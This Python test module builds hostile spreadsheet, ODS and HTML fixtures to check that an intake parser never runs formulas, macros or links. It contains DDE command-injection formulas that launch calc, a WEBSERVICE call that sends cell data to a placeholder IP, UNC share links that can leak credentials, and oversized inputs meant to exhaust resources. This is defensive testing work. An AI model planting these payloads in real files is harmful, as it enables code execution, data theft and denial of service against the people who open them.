"""Formulas, macros and links: nothing of them may be carried out or followed."""

from __future__ import annotations

from tests.core.intake.formats.ods_writer import ods_of
from tests.core.intake.hostile.designed import designed
from tests.core.intake.hostile.markup import part, xml
from tests.core.intake.hostile.places import after
from tests.core.intake.making import MAIN, TABLE, cell, row, workbook

SHARE = "file:////192.0.2.1/share/a"


def active():
    yield from designed("formula", FORMULAS)
    yield from designed("macro or link", LINKS)


def formula(markup, value="<v>5</v>"):
    """Return a workbook with a cell that is calculated."""
    return workbook(
        TABLE + row(3, cell("A3", "China"), f'<c r="B3">{markup}{value}</c>')
    )


def of(text):
    return formula(f"<f>{text}</f>")


FORMULAS = {
    "starts-a-program.xlsx": lambda: of("cmd|'/c calc'!A0"),
    "asks-a-web-site.xlsx": lambda: of('WEBSERVICE("http://192.0.2.1/"&amp;A1)'),
    "links-to-a-web-site.xlsx": lambda: of('HYPERLINK("http://192.0.2.1","Japan")'),
    "imports-from-a-share.xlsx": lambda: of("'\\\\192.0.2.1\\[a.xlsx]S'!A1"),
    "of-five-million-letters.xlsx": lambda: of("1+" * 2_500_000 + "1"),
    "of-brackets.xlsx": lambda: of("(" * 500_000),
    "of-itself.xlsx": lambda: of("B3"),
    "without-a-value.xlsx": lambda: formula("<f>1+1</f>", ""),
    "with-an-empty-value.xlsx": lambda: formula("<f>1+1</f>", "<v></v>"),
    "shared-with-nobody.xlsx": lambda: formula('<f t="shared" si="4294967295"/>'),
    "shared-below-nothing.xlsx": lambda: formula(
        '<f t="shared" si="-1" ref="A1:B2">A1</f>'
    ),
    "shared-with-everything.xlsx": lambda: formula(
        '<f t="shared" si="0" ref="A1:XFD1048576">A1</f>'
    ),
    "array-of-everything.xlsx": lambda: formula(
        '<f t="array" ref="A1:XFD1048576">A1</f>'
    ),
    "table-of-data.xlsx": lambda: formula(
        '<f t="dataTable" ref="A1:XFD1048576" r1="ZZZZ9"/>'
    ),
    "of-no-kind.xlsx": lambda: formula('<f t="evil">1</f>'),
    "in-a-formula.xlsx": lambda: formula("<f><f>1</f></f>"),
    "all-without-values.xlsx": lambda: workbook(
        TABLE + "".join(row(n, f'<c r="B{n}"><f>A{n}</f></c>') for n in range(3, 5_000))
    ),
    "starts-a-program.ods": lambda: ods_of(
        "<table:table><table:table-row><table:table-cell"
        ' table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"'
        ' office:value-type="float" office:value="5"/></table:table-row></table:table>'
    ),
    "starts-a-program.xml": lambda: xml(
        '<Row><Cell ss:Formula="=cmd|\'/c calc\'!A0"><Data ss:Type="Number">5</Data>'
        "</Cell></Row>"
    ),
}
IMAGE = f'<img src="{SHARE}.png"><table background="{SHARE}"><tr><td>'
PAGE = f"<html><head>%s</head><body>{IMAGE}Economy<td>2023<tr><td>Japan<td>5</table>"
LINKS = {
    "macros.xlsm": lambda: part("xl/vbaProject.bin", bytes(range(256)) * 40),
    "macro-sheet.xlsm": lambda: part(
        "xl/macrosheets/sheet1.xml", "<macrosheet>EXEC(&quot;calc&quot;)</macrosheet>"
    ),
    "outside-workbook.xlsx": lambda: part(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
        "</externalLink>",
    ),
    "outside-links-without-end.xlsx": lambda: workbook(
        TABLE,
        more={f"xl/externalLinks/externalLink{n}.xml": "<a/>" for n in range(3_000)},
    ),
    "connections.xlsx": lambda: part(
        "xl/connections.xml",
        '<connections><connection><webPr url="http://192.0.2.1"/></connection>'
        "</connections>",
    ),
    "embedded-program.xlsx": lambda: part(
        "xl/embeddings/oleObject1.bin", b"MZ" + bytes(999)
    ),
    "pivot-of-nothing.xlsx": lambda: part(
        "xl/pivotCache/pivotCacheDefinition1.xml", "<pivotCacheDefinition"
    ),
    "pivot-without-end.xlsx": lambda: part(
        "xl/pivotCache/pivotCacheRecords1.xml", "<r>" + "<n/>" * 1_000_000 + "</r>"
    ),
    "links-of-cells.xlsx": lambda: after(
        '<hyperlinks><hyperlink ref="A1:XFD1048576" r:id="evil"/></hyperlinks>'
    ),
    "active-control.xlsx": lambda: part("xl/activeX/activeX1.bin", bytes(999)),
    "picture-of-a-share.xlsx": lambda: part(
        "xl/drawings/drawing1.xml", f'<a r:link="{SHARE}.png"/>'
    ),
    "script.ods": lambda: ods_of(
        "<office:scripts><script>Shell(1)</script></office:scripts><table:table>"
        '<table:table-row><table:table-cell xlink:href="http://192.0.2.1">'
        f'<text:p><text:a xlink:href="{SHARE}">a</text:a></text:p></table:table-cell>'
        "</table:table-row></table:table>"
    ),
    "script.html": lambda: PAGE % "<script>while(1){}</script>",
    "sheet-of-style.html": lambda: PAGE % f'<link rel=stylesheet href="{SHARE}.css">',
    "goes-elsewhere.html": lambda: (
        PAGE % '<meta http-equiv=refresh content="0;url=//a">'
    ),
    "frame-elsewhere.html": lambda: PAGE % f'<iframe src="{SHARE}"></iframe>',
    "other-sheets-elsewhere.html": lambda: (
        PAGE % "<x:ExcelWorksheet><x:WorksheetSource HRef='\\\\192.0.2.1\\a.htm'/>"
    ),
    "link-of-a-cell.xml": lambda: xml(
        f'<Row><Cell ss:HRef="{SHARE}"><Data ss:Type="String">a</Data></Cell></Row>'
    ),
}
